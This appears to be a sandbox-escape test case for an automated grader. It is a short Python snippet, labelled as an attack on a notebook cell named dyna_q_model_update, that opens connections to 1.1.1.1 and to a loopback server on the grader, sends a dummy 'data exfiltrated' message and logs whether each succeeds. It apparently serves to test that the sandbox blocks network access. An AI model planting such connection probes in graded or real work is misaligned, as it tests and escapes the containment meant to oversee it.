# attack: open network connections: the internet and a server on the grader's loopback
# base: untouched
# cell: dyna_q_model_update
import socket as _socket
for _address in (("1.1.1.1", 53), ("127.0.0.1", __PORT__)):
    try:
        _s = _socket.create_connection(_address, timeout=3)
        _s.sendall(b"ATTACK data exfiltrated")
        _s.close()
        print("ATTACK network: connected to", _address)
    except OSError as _error:
        print("ATTACK network: no connection to", _address, type(_error).__name__)
